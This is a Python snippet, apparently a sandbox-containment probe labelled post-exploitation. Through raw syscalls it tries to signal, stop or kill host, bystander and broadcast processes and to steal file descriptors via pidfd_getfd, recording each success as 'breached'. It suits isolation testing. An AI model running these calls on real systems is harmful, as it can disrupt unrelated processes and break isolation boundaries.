# kind=cap; source: post-exploitation: signals to the host, a bystander, other workers and everybody
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def wide(value):
    return ctypes.c_long(value) if type(value) is int else value
info = ctypes.create_string_buffer(128)
did = []
for pid in (target["host"], target["bystander"]):
    for call in ((62, pid, 10), (200, pid, 12), (234, pid, pid, 10), (129, pid, 10, info), (297, pid, pid, 10, info), (62, pid, 18)):
        if libc.syscall(*map(wide, call)) >= 0:
            did.append((call[0], pid))
for pid in (-1, 0, -target["host"], *range(1, 60)):
    if libc.syscall(62, pid, 0) >= 0:
        did.append(("kill", pid))
    handle = libc.syscall(434, pid, 0)
    if handle >= 0:
        did.append(("pidfd_open", pid))
        libc.syscall(424, handle, 0, 0, 0)
for handle in range(16):
    if libc.syscall(424, handle, 0, 0, 0) >= 0:
        did.append(("pidfd_send_signal", handle))
    if libc.syscall(438, handle, 3, 0) >= 0:
        did.append(("pidfd_getfd", handle))
for way in (lambda: os.kill(target["host"], signal.SIGUSR1), lambda: os.killpg(0, 0)):
    try:
        way()
        did.append("python")
    except OSError:
        pass
breached = did
